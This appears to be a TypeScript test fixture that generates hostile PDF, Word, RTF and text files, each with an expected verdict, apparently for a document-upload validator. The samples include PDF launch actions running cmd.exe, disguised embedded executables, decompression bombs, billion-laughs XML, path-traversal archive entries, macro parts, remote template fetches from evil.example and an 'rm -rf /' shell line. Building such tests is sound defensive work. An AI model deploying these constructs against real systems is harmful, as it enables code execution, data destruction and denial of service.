import type { HostileFile } from './test-hostile-files.ts'
import { dice } from '../test-mutations.ts'
import { toCompound, toDoc, pdfOfObjects, pdfWith } from './test-sound-files.ts'
import {
  contentTypes,
  deflated,
  documentRelations,
  toDocx,
  letter,
  rootRelations,
  stored,
  unfolding,
  unfoldingZlib,
  wordMain,
  toZip,
  type Packed,
  type ZipPart,
} from './test-zips.ts'

const stream = (dictionary: string, content: string) =>
  `<<${dictionary}/Length ${content.length}>>stream\n${content}\nendstream`
const launch = '<</S/Launch/F(cmd.exe)>>'
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const attached = (name: string, content: string) =>
  pdfWith(`/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>`, [
    `<</Type/Filespec/F(${name})/UF(${name})/EF<</F 7 0 R>>>>`,
    stream('/Type/EmbeddedFile', content),
  ])
const locked =
  '<</Filter/Standard/V 1/R 2/O<' + '28'.repeat(32) + '>/U<' + 'bf'.repeat(32) + '>/P -4>>'
const program = `MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0${'\0'.repeat(200)}`

/** Objects in a compressed stream, with a cross-reference stream. */
function pdfOfPackedObjects(
  packed: Buffer,
  first: number,
  count: number,
  numbers: readonly number[],
): Buffer {
  const head = `%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N ${count}/First ${first}/Filter/FlateDecode/Length ${packed.length}>>stream\n`
  const objects = Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream\nendobj\n')])
  const entry = (kind: number, place: number, more: number) => [
    kind,
    place >> 16,
    place >> 8,
    place,
    more,
  ]
  const table = [
    ...entry(0, 0, 0),
    ...entry(1, 9, 0),
    ...numbers.flatMap((_, at) => entry(2, 1, at)),
    ...entry(1, objects.length, 0),
  ]
  const size = numbers.length + 3
  const last = `${size - 1} 0 obj\n<</Type/XRef/W[1 3 1]/Size ${size}/Root 2 0 R/Length ${table.length}>>stream\n`
  return Buffer.concat([
    objects,
    Buffer.from(last),
    Buffer.from(table.map((byte) => byte & 255)),
    Buffer.from(`\nendstream\nendobj\nstartxref\n${objects.length}\n%%EOF\n`),
  ])
}

function packedCatalog(action: string): Buffer {
  const objects = [
    `<</Type/Catalog/Pages 3 0 R/OpenAction${action}>>`,
    '<</Type/Pages/Kids[4 0 R]/Count 1>>',
    '<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Resources<<>>>>',
  ]
  let place = 0
  const places = objects
    .map(
      (object, at) => `${at + 2} ${(place += at === 0 ? 0 : (objects[at - 1]?.length ?? 0) + 1)}`,
    )
    .join(' ')
  const content = `${places} ${objects.join(' ')}`
  return pdfOfPackedObjects(
    Buffer.concat([Buffer.of(0x78, 0xda), deflated(content).packed, adler32(content)]),
    places.length + 1,
    3,
    [2, 3, 4],
  )
}

function adler32(content: string): Buffer {
  let [first, second] = [1, 0]
  for (const byte of Buffer.from(content))
    [first, second] = [(first + byte) % 65_521, (second + first + byte) % 65_521]
  return Buffer.of(second >> 8, second & 255, first >> 8, first & 255)
}

function hostilePdfs(): readonly HostileFile[] {
  const sound = pdfWith('')
  return [
    {
      name: 'begins late.pdf',
      content: Buffer.concat([Buffer.alloc(1_000, 0x20), sound]),
      verdict: 'corrupt',
    },
    {
      name: 'begins after a line.pdf',
      content: Buffer.concat([Buffer.from('\r\n'), sound]),
      verdict: 'corrupt',
    },
    {
      name: 'page in front.pdf',
      content: Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), sound]),
      verdict: 'corrupt',
    },
    { name: 'only its ends.pdf', content: Buffer.from('%PDF-1.7\n%%EOF\n'), verdict: 'corrupt' },
    {
      name: 'nothing inside.pdf',
      content: Buffer.from(`%PDF-1.7\n${' '.repeat(5_000)}\n%%EOF\n`),
      verdict: 'corrupt',
    },
    { name: 'no end.pdf', content: sound.subarray(0, -7), verdict: 'corrupt' },
    {
      name: 'ends far from the end.pdf',
      content: Buffer.concat([sound, Buffer.alloc(4_000)]),
      verdict: 'corrupt',
    },
    { name: 'starts a program.pdf', content: pdfWith(`/OpenAction${launch}`), verdict: 'corrupt' },
    {
      name: 'starts a program in other letters.pdf',
      content: pdfWith(`/OpenAction<</S/#4c#61unch/F(cmd.exe)>>`),
      verdict: 'corrupt',
    },
    {
      name: 'starts a program elsewhere.pdf',
      content: pdfWith('/OpenAction 6 0 R', [launch.replace('/S/Launch', '/S 7 0 R'), '/Launch']),
      verdict: 'corrupt',
    },
    {
      name: 'starts a program later.pdf',
      content: pdfWith('/AA<</WC<</S/Launch/Win<</F(calc.exe)>>>>>>'),
      verdict: 'corrupt',
    },
    { name: 'starts a program, packed.pdf', content: packedCatalog(launch), verdict: 'corrupt' },
    { name: 'packed and sound.pdf', content: packedCatalog('[4 0 R/Fit]'), verdict: 'sound' },
    {
      name: 'script.pdf',
      content: pdfWith(`/OpenAction${script}`),
      verdict: 'sound',
      flags: ['javascript'],
    },
    {
      name: 'named script.pdf',
      content: pdfWith(`/Names<</JavaScript<</Names[(a)${script}]>>>>`),
      verdict: 'sound',
      flags: ['javascript'],
    },
    {
      name: 'packed script.pdf',
      content: packedCatalog(script),
      verdict: 'sound',
      flags: ['javascript'],
    },
    {
      name: 'locked.pdf',
      content: pdfWith('', [locked], `/Encrypt 6 0 R/ID[<${'0f'.repeat(16)}><${'0f'.repeat(16)}>]`),
      verdict: 'sound',
      flags: ['encrypted'],
    },
    {
      name: 'attachment.pdf',
      content: attached('list.txt', 'what I owe'),
      verdict: 'sound',
      flags: ['attachments'],
    },
    { name: 'attached program.pdf', content: attached('invoice.exe', program), verdict: 'corrupt' },
    {
      name: 'attached program of another name.pdf',
      content: attached('invoice.txt', program),
      verdict: 'corrupt',
    },
    {
      name: 'attached script.pdf',
      content: attached('invoice.js', 'WScript.Echo(1)'),
      verdict: 'corrupt',
    },
    {
      name: 'pages in a circle.pdf',
      content: pdfOfObjects([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[2 0 R]/Count 1>>',
      ]),
      verdict: 'either',
    },
    {
      name: 'a billion pages.pdf',
      content: Buffer.from(
        sound.toString('latin1').replace('/Count 1>>', '/Count 999999999>>'),
        'latin1',
      ),
      verdict: 'either',
    },
    { name: 'tables in a circle.pdf', content: pdfWith('', [], '/Prev 9'), verdict: 'either' },
    {
      name: 'length of itself.pdf',
      content: pdfWith('', ['<</Length 6 0 R>>stream\nendstream']),
      verdict: 'either',
    },
    { name: 'deep.pdf', content: pdfWith('', ['['.repeat(300_000)]), verdict: 'either' },
    {
      name: 'deep catalog.pdf',
      content: pdfWith(`/A${'<</A'.repeat(100_000)}`),
      verdict: 'either',
    },
    {
      name: 'a million streams.pdf',
      content: pdfWith('', ['stream '.repeat(1_000_000)]),
      verdict: 'corrupt',
    },
    {
      name: 'a million actions.pdf',
      content: pdfWith('', ['/Launch '.repeat(1_000_000)]),
      verdict: 'either',
    },
    {
      name: 'unfolding page.pdf',
      content: pdfWith('', [stream('/Filter/FlateDecode', unfoldingZlib(500).toString('latin1'))]),
      verdict: 'either',
    },
    {
      name: 'unfolding objects.pdf',
      content: pdfOfPackedObjects(unfoldingZlib(500), 10, 3, [2, 3, 4]),
      verdict: 'corrupt',
    },
  ]
}

const laughs = `<!DOCTYPE a [<!ENTITY a "${'&b;'.repeat(1_000)}"><!ENTITY b "${'&c;'.repeat(1_000)}">]><Types>&a;</Types>`
const sheetMain = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
const macroMain = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const part = (name: string, content: Packed = stored('x')): ZipPart => ({ name, content })
const parts = (...others: readonly ZipPart[]): Buffer => toZip(others)

function hostileDocx(): readonly HostileFile[] {
  const next = dice(42)
  // Expands less than a hundredfold, but to more than 200 MB in total.
  const slow = unfolding(
    26,
    Uint8Array.from({ length: 12_000 }, () => next() * 256),
  )
  const zeros = unfolding(60)
  const nested = (inner: Buffer) =>
    toZip(Array.from({ length: 16 }, (_, at) => part(`${at}.zip`, deflated(inner))))
  return [
    {
      name: 'unfolding.docx',
      content: toDocx(part('word/media/image1.bmp', unfolding(300))),
      verdict: 'corrupt',
    },
    {
      name: 'unfolding letter.docx',
      content: parts(contentTypes(), rootRelations, part('word/document.xml', zeros)),
      verdict: 'corrupt',
    },
    {
      name: 'unfolding contents.docx',
      content: parts(part('[Content_Types].xml', zeros), rootRelations, letter()),
      verdict: 'corrupt',
    },
    {
      name: 'unfolding slowly.docx',
      content: toDocx(...Array.from({ length: 8 }, (_, at) => part(`word/media/${at}.bmp`, slow))),
      verdict: 'corrupt',
    },
    {
      name: 'smaller than it is.docx',
      content: toDocx({ ...part('word/media/a.bmp', zeros), saysBytes: 10 }),
      verdict: 'corrupt',
    },
    {
      name: 'larger than it is.docx',
      content: toDocx({ ...part('word/media/a.bmp', stored('x')), saysBytes: 90 }),
      verdict: 'corrupt',
    },
    {
      name: 'far larger than it is.docx',
      content: toDocx({ ...part('word/media/a.bmp', deflated('x')), saysBytes: 0xffff_fff0 }),
      verdict: 'corrupt',
    },
    {
      name: 'too many parts.docx',
      content: toDocx(
        ...Array.from({ length: 1_998 }, (_, at) => part(`word/${at}.xml`, deflated('<a/>'))),
      ),
      verdict: 'corrupt',
    },
    {
      name: 'as many parts as may be.docx',
      content: toDocx(
        ...Array.from({ length: 1_997 }, (_, at) => part(`word/${at}.xml`, deflated('<a/>'))),
      ),
      verdict: 'sound',
    },
    {
      name: 'more parts than it has.docx',
      content: toZip([contentTypes(), rootRelations, letter()], { saysParts: 1_900 }),
      verdict: 'corrupt',
    },
    {
      name: 'fewer parts than it has.docx',
      content: toZip([contentTypes(), rootRelations, letter(), part('word/vbaProject.bin')], {
        saysParts: 3,
      }),
      verdict: 'corrupt',
    },
    {
      name: 'one part many times.docx',
      content: toDocx(
        ...Array.from({ length: 900 }, (_, at) => ({
          ...part(`word/${at}.xml`, zeros),
          isAgain: at > 0,
        })),
      ),
      verdict: 'corrupt',
    },
    {
      name: 'archives in archives.docx',
      content: toDocx(
        part('word/embeddings/a.zip', stored(nested(nested(nested(toZip([part('0', zeros)])))))),
      ),
      verdict: 'corrupt',
    },
    {
      name: 'an archive that unpacks to much.docx',
      content: toDocx(part('word/embeddings/a.zip', stored(toZip([part('0', zeros)])))),
      verdict: 'corrupt',
    },
    ...[
      '../../../etc/cron.d/a',
      '/etc/passwd',
      'C:\\Windows\\a.exe',
      'word\\..\\..\\a.exe',
      'word/../../a',
    ].map((name, at): HostileFile => ({
      name: `wandering ${at}.docx`,
      content: toDocx(part(name)),
      verdict: 'corrupt',
    })),
    {
      name: 'locked part.docx',
      content: toDocx({ ...part('word/media/a.bmp'), flags: 1 }),
      verdict: 'corrupt',
    },
    { name: 'a name twice.docx', content: toDocx(contentTypes(macroMain)), verdict: 'corrupt' },
    { name: 'no contents.docx', content: parts(rootRelations, letter()), verdict: 'corrupt' },
    { name: 'only an archive.docx', content: parts(part('readme.txt')), verdict: 'corrupt' },
    {
      name: 'program in front.docx',
      content: Buffer.concat([Buffer.from(program, 'latin1'), toDocx()]),
      verdict: 'corrupt',
    },
    { name: 'macros.docx', content: toDocx(part('word/vbaProject.bin')), verdict: 'corrupt' },
    {
      name: 'macros elsewhere.docx',
      content: toDocx(part('word/other/VBAPROJECT.BIN')),
      verdict: 'corrupt',
    },
    {
      name: 'macros by its word.docx',
      content: parts(contentTypes(macroMain), rootRelations, letter()),
      verdict: 'corrupt',
    },
    {
      name: 'template.docx',
      content: parts(
        contentTypes(wordMain.replace('document.main', 'template.main')),
        rootRelations,
        letter(),
      ),
      verdict: 'corrupt',
    },
    {
      name: 'renamed sheet.docx',
      content: parts(contentTypes(sheetMain), rootRelations, part('xl/workbook.xml')),
      verdict: 'corrupt',
    },
    {
      name: 'sheet that lies as a document.docx',
      content: parts(contentTypes(sheetMain), rootRelations, letter()),
      verdict: 'corrupt',
    },
    {
      name: 'fetched template.docx',
      content: toDocx(documentRelations('attachedTemplate', 'https://evil.example/a.dotm')),
      verdict: 'corrupt',
    },
    {
      name: 'fetched object.docx',
      content: toDocx(documentRelations('oleObject', 'file:///\\\\evil.example\\a')),
      verdict: 'corrupt',
    },
    {
      name: 'ordinary link.docx',
      content: toDocx(documentRelations('hyperlink', 'https://www.example.com/')),
      verdict: 'sound',
    },
    {
      name: 'words at its end.docx',
      content: toZip([contentTypes(), rootRelations, letter()], { comment: 'made by a program' }),
      verdict: 'either',
    },
    { name: 'cut.docx', content: toDocx().subarray(0, -30), verdict: 'corrupt' },
    {
      name: 'a billion laughs.docx',
      content: parts(part('[Content_Types].xml', deflated(laughs)), rootRelations, letter()),
      verdict: 'corrupt',
    },
    {
      name: 'a billion laughs in the letter.docx',
      content: parts(contentTypes(), rootRelations, part('word/document.xml', deflated(laughs))),
      verdict: 'corrupt',
    },
  ]
}

function hostileDocs(): readonly HostileFile[] {
  const sound = toDoc()
  const circle = Buffer.from(sound)
  // The header locates the sector table; each sector is made to follow itself.
  const table = 512 + 512 * circle.readUInt32LE(76)
  for (let sector = 0; sector < 128; sector++) circle.writeUInt32LE(sector, table + sector * 4)
  return [
    {
      name: 'macros.doc',
      content: toDoc({ path: '/Macros/VBA/dir', content: 'x' }),
      verdict: 'corrupt',
    },
    {
      name: 'macros elsewhere.doc',
      content: toDoc({ path: '/_VBA_PROJECT_CUR/VBA/Module1', content: 'x' }),
      verdict: 'corrupt',
    },
    {
      name: 'packed object.doc',
      content: toDoc({ path: '/ObjectPool/_1/\u0001Ole10Native', content: program }),
      verdict: 'corrupt',
    },
    {
      name: 'renamed installer.doc',
      content: toCompound([
        { path: '/\u4840\u3b3f\u43f2\u4438\u45b1', content: 'x'.repeat(5_000) },
      ]),
      verdict: 'corrupt',
    },
    {
      name: 'renamed sheet.doc',
      content: toCompound([{ path: '/Workbook', content: 'x'.repeat(5_000) }]),
      verdict: 'corrupt',
    },
    {
      name: 'locked docx.doc',
      content: toCompound([
        { path: '/EncryptedPackage', content: 'x'.repeat(5_000) },
        { path: '/EncryptionInfo', content: 'x' },
      ]),
      verdict: 'corrupt',
    },
    { name: 'sectors in a circle.doc', content: circle, verdict: 'either' },
    { name: 'only a header.doc', content: sound.subarray(0, 512), verdict: 'corrupt' },
    {
      name: 'page.doc',
      content: Buffer.from(
        '<html xmlns:o="urn:schemas-microsoft-com:office:office"><script>alert(1)</script></html>',
      ),
      verdict: 'corrupt',
    },
  ]
}

function hostileTexts(): readonly HostileFile[] {
  const rtf = (inside: string) =>
    Buffer.from(`{\\rtf1\\ansi ${'Dear Sir, '.repeat(900)}${inside}${' Yours. '.repeat(900)}}`)
  return [
    {
      name: 'object.rtf',
      content: rtf('{\\object\\objemb{\\*\\objdata 0105000002000000}}'),
      verdict: 'corrupt',
    },
    {
      name: 'fetched object.rtf',
      content: rtf('{\\object\\objautlink\\objupdate}'),
      verdict: 'corrupt',
    },
    { name: 'updating object.rtf', content: rtf('{\\object\\objupdate}'), verdict: 'corrupt' },
    { name: 'deep.rtf', content: rtf('{'.repeat(500_000)), verdict: 'either' },
    { name: 'other.rtf', content: Buffer.from('{\\rt Dear Sir}'), verdict: 'corrupt' },
    {
      name: 'NUL.txt',
      content: Buffer.from(`${'words '.repeat(2_000)}\0${' words'.repeat(2_000)}`),
      verdict: 'corrupt',
    },
    {
      name: 'wide without a mark.txt',
      content: Buffer.from('Dear Sir', 'utf16le'),
      verdict: 'corrupt',
    },
    {
      name: 'wide with a NUL.txt',
      content: Buffer.from(`\uFEFF${'words '.repeat(2_000)}\0`, 'utf16le'),
      verdict: 'corrupt',
    },
    { name: 'escape.txt', content: Buffer.from('\u001b]0;title\u0007'), verdict: 'corrupt' },
    { name: 'shell.txt', content: Buffer.from('#!/bin/sh\nrm -rf /\n'), verdict: 'corrupt' },
    {
      name: 'page.txt',
      content: Buffer.from('<html><script>alert(1)</script></html>'),
      verdict: 'sound',
    },
    {
      name: 'bidi.txt',
      content: Buffer.from('if (isAdmin\u202e) { \u2066// words\u2069'),
      verdict: 'sound',
    },
  ]
}

export function hostilePapers(): readonly HostileFile[] {
  return [...hostilePdfs(), ...hostileDocx(), ...hostileDocs(), ...hostileTexts()]
}
